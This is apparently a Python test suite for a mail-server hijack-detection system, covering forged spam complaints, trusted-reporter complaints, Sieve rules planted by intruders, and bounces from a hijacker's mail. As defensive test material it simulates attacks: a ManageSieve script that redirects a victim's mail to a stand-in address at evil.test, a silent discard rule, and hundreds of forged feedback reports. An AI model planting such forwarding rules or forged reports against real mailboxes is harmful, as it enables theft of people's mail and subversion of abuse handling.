"""P3, P5: forged complaints count nothing, those of a trusted reporter about real messages once, and never alone
suspend; a rule planted over ManageSieve is seen within seconds; what comes back for the hijacker's mail goes to a
folder of its own and is never held against the owner. Sabotage: tests/sabotage/t23.patch (who brings a complaint is
not asked)."""

from __future__ import annotations

import subprocess
import time
from base64 import b64encode
from collections.abc import Iterable

from harness import ABROAD, HOME, OTHER_DOMAIN, Box, Hijacker, Stack

from sekisho.config import DovecotSettings
from sekisho.rehearsal.clients import ImapSession, SmtpSession
from sekisho.rehearsal.outside import wait_until
from sekisho.rehearsal.sieve_client import SieveSession

# Where two mailboxes of the demo are at home.
AT_JIMU, AT_KOSEI = "198.18.20.14", "198.18.20.15"
# demo/provider.toml: the one reporter whose reports count, and somebody else.
REPORTER, SOMEBODY = "198.18.250.3", "203.0.113.77"
# The folder's name (config.DovecotSettings) as IMAP writes it: modified UTF-7, RFC 3501 section 5.1.3.
FOLDER = f'"&{b64encode(DovecotSettings("").returned_mail_folder.encode("utf-16-be")).decode().rstrip("=")}-"'.replace(
    "/", ","
)


def report(host: str, queue_id: str, message_id: str = "") -> bytes:
    """A feedback report (RFC 5965) about a message that `host` is said to have taken under `queue_id`."""
    reported = f"Received: from [{HOME}] (unknown [{HOME}])\r\n\tby {host} (Postfix) with ESMTPSA id {queue_id}\r\n"
    reported += f"Message-ID: {message_id}\r\n" if message_id else ""
    return (
        "From: <fbl@receiver.test>\r\nSubject: complaint\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=feedback-report; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain\r\n\r\nA reader called this spam.\r\n"
        "--b\r\nContent-Type: message/feedback-report\r\n\r\nFeedback-Type: abuse\r\nVersion: 1\r\n\r\n"
        f"--b\r\nContent-Type: message/rfc822\r\n\r\n{reported}Subject: Win\r\n\r\nNow!\r\n--b--\r\n"
    ).encode()


def bounce(host: str, queue_id: str, number: str, recipient: str) -> bytes:
    """What a remote server writes when it gives up a message of ours (RFC 3464)."""
    return (
        f"From: <mailer-daemon@far.test>\r\nTo: <{recipient}>\r\nSubject: Undelivered\r\nMIME-Version: 1.0\r\n"
        f"X-Rehearsal: {number}\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain\r\n\r\nIt could not be delivered.\r\n"
        "--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mail.far.test\r\n\r\n"
        "Final-Recipient: rfc822; x@far.test\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
        f"--b\r\nContent-Type: text/rfc822-headers\r\n\r\nReceived: from [{HOME}] (unknown [{HOME}])\r\n"
        f"\tby {host} (Postfix) with ESMTPSA id {queue_id}\r\nSubject: Win\r\n\r\n--b--\r\n"
    ).encode()


def host_name(stack: Stack) -> str:
    configuration = str(stack.places.our_postfix)
    command = ["/usr/sbin/postconf", "-c", configuration, "-h", "myhostname"]
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout.strip()


def complain(stack: Stack, host: str, queue_ids: Iterable[str], client: str) -> None:
    """Brings reports to our MX; returns when each has been taken."""
    sent = []
    with SmtpSession(stack.places.mx, client_address=client) as session:
        for queue_id in queue_ids:
            sending = session.send("fbl@receiver.test", [f"complaints@feedback.{host}"], report(host, queue_id))
            assert sending.end and sending.end.code == 250, sending
            sent.append(sending.end.text.rpartition(" ")[2])

    def taken() -> bool:
        log = stack.mail_log()
        return all(f"{queue_id}: removed" in log for queue_id in sent)

    assert wait_until(taken, 30 + 2 * len(sent), pause=0.5) is not None, "reports were not taken"


def forge(stack: Stack, host: str, real: list[str], count: int) -> None:
    """So many made-up reports, and as many about real messages that nobody vouches for, through the same code."""
    stack.shell.run(
        f"""
from datetime import UTC, datetime
from sekisho.config import settings
from sekisho.incidents import complaints
from sekisho.wire.feedback_report import parse_report
data = {report("@HOST@", "@ID@")!r}
for number in range({count}):
    made_up = (f"4made{{number:04d}}upzzzz", {REPORTER!r})
    about_real = ({real!r}[number % {len(real)}], {SOMEBODY!r})
    for queue_id, address in (made_up, about_real):
        text = data.replace(b"@HOST@", {host!r}.encode()).replace(b"@ID@", queue_id.encode())
        complaints.take(parse_report(text), complaints.Client(address), settings(), datetime.now(UTC))
"""
    )


def write_abroad(stack: Stack, box: Box, count: int) -> list[str]:
    """A few messages from abroad with the mailbox's password; their queue ids."""
    return [stack.submit(box, f"t23-{number}@t23-shop.test", f"t23-{number}", source=ABROAD) for number in range(count)]


def decided(stack: Stack, box: Box) -> int:
    """How many decisions the record has about a mailbox."""
    sql = (
        "SELECT COUNT(*) FROM incidents_decision d JOIN incidents_incident i ON i.id = d.incident_id WHERE mailbox = ?"
    )
    return int(stack.our_sql(sql, box.address)[0][0])


def test_complaints_count_once_only_from_trusted_reporters_and_never_alone(stack: Stack) -> None:
    box, host = stack.known_box(f"jimu@{OTHER_DOMAIN}"), host_name(stack)
    queue_ids = write_abroad(stack, box, 4)
    # Somebody got in from abroad: an alert, for whatever the complaints will add.
    assert wait_until(lambda: decided(stack, box) == 1, 10) is not None
    forge(stack, host, queue_ids, 500)
    complain(stack, host, queue_ids, SOMEBODY)
    found = stack.ask("explain", box.address)["complaints"]
    assert (found["counted"], found["forgeable"]) == (0, len(queue_ids)), found
    assert stack.status(box) == "active"
    assert decided(stack, box) == 1

    complain(stack, host, [*queue_ids, *queue_ids], REPORTER)
    assert wait_until(lambda: decided(stack, box) > 1, 10) is not None, "complaints of a trusted reporter had no effect"
    story = stack.incident(box)
    assert story["complaints"]["counted"] == len(queue_ids)
    assert "complaints" in {sign["name"] for sign in story["indicators"]}
    assert sum(line["details"]["count"] for line in story["timeline"] if line["kind"] == "complaint") == len(queue_ids)
    assert stack.status(box) == "restricted", "complaints are capped: they ask for a person, they suspend nobody"

    # After the recovery the same messages are nobody's evidence any more.
    stack.reinstate(box)
    before = decided(stack, box)
    stack.submit(box, "known@t23-shop.test", "t23-own", source=AT_JIMU)
    complain(stack, host, queue_ids, REPORTER)
    time.sleep(2)
    assert (stack.status(box), decided(stack, box)) == ("probation", before)


def test_a_rule_planted_over_managesieve_is_seen_within_seconds(stack: Stack) -> None:
    forwarded, thrown_away = stack.new_boxes("t23", 2)
    stack.plant(forwarded, 'require "fileinto";\r\nfileinto "x";\r\n', source=HOME)
    # The script that runs is overwritten in place: PUTSCRIPT alone, nothing is activated.
    # Two addresses that guessed nobody's password before: else the login alone would be enough for a decision.
    intruders = stack.stranger(), stack.stranger()
    session = SieveSession(stack.places.sieve, client_address=intruders[0])
    assert session.login(forwarded.address, forwarded.password).accepted
    assert session.put_script("rules", 'redirect "drop@evil.test";\r\n').accepted
    session.close()
    stack.plant(thrown_away, "discard;\r\n", source=intruders[1])
    for box, sign in ((forwarded, "forward_rule"), (thrown_away, "discard_rule")):
        assert wait_until(lambda box=box: decided(stack, box) > 0, 5, pause=0.2) is not None, f"{sign} was not seen"
        assert sign in {found["name"] for found in stack.incident(box)["indicators"]}


def returned(stack: Stack, box: Box) -> list[str]:
    with ImapSession(stack.places.imap, client_address=HOME) as session:
        assert session.login(box.address, box.password).accepted
        return session.headers(FOLDER)


def test_what_comes_back_for_the_hijackers_mail_goes_to_a_folder_of_its_own(stack: Stack) -> None:
    # An owner with a history: what he sends from home is no part of the incident.
    box, host = stack.known_box(f"kosei@{OTHER_DOMAIN}"), host_name(stack)
    own = stack.submit(box, "known@t23-shop.test", "t23-mine", source=AT_KOSEI)
    # Nothing leaves for the moment, so the blast is held whole: its results come after the recovery.
    resume = stack.postconf("ours", defer_transports="smtp")
    try:
        hijacker = Hijacker(stack, box).run(names="t23", bad_every=1)
        assert hijacker.queue_ids
        stack.assert_shut(box, within=5)
        incident = stack.incident(box)["id"]
        hijacked = next(iter(hijacker.queue_ids))
        wait_until(lambda: held(stack) >= hijacker.queue_ids, 15)
    finally:
        resume()
    # While it is suspended, bounces wait like any other mail: at the sender's server (450), nothing is lost.
    letter = stack.write(box.address, "friend@t23-far.test")
    for queue_id, number in ((hijacked, "t23-spam-bounce"), (own, "t23-own-bounce")):
        with SmtpSession(stack.places.outside_smtp) as session:
            sending = session.send("", [box.address], bounce(host, queue_id, number, box.address))
        assert sending.end and sending.end.code == 250, sending
    assert wait_until(lambda: len(stack.waiting_for(stack.their_queue(), box)) == 3, 15) is not None

    stack.reinstate(box)
    stack.flush("theirs")
    stack.assert_arrives_once(box, [letter, "t23-own-bounce"], within=60)
    assert wait_until(lambda: len(returned(stack, box)) == 1, 10) is not None
    before = decided(stack, box)

    # The held messages go out now: their bounces are the hijacker's, late, and say nothing about the owner.
    subprocess.run(
        ["/usr/sbin/postsuper", "-c", str(stack.places.our_postfix), "-H", "-"],
        input="\n".join(hijacker.queue_ids), text=True, check=True, capture_output=True,
    )  # fmt: skip
    stack.flush("ours")
    bad = len({i for address, i in hijacker.accepted.items() if address.startswith("nosuch")})
    assert bad >= 2
    assert wait_until(lambda: len(returned(stack, box)) == 1 + bad, 60, pause=1) is not None, len(returned(stack, box))
    assert all("Undelivered" in header for header in returned(stack, box))
    stack.assert_arrives_once(box, [letter, "t23-own-bounce"], within=5)
    # Not the mailbox's latest: looking in from another place than the owner's may have raised an alert since.
    assert stack.ask("incident", "show", str(incident))["returned"] == 1 + bad
    assert (stack.status(box), decided(stack, box)) == ("probation", before)


def held(stack: Stack) -> set[str]:
    return {message.queue_id for message in stack.our_queue() if message.queue_name == "hold"}


def test_a_broken_script_of_ours_loses_no_mail(stack: Stack) -> None:
    boxes = stack.new_boxes("t23", 2)
    for box, text, mode in zip(boxes, ('require ["nonsense"]; if {{{', "keep;"), (0o644, 0), strict=True):
        path = stack.var / "returned" / f"{box.address}.sieve"
        path.write_text(text)
        path.chmod(mode)
    letters = [stack.write(box.address, "friend@t23-far.test") for box in boxes]
    for box, letter in zip(boxes, letters, strict=True):
        stack.assert_arrives_once(box, [letter], within=20)
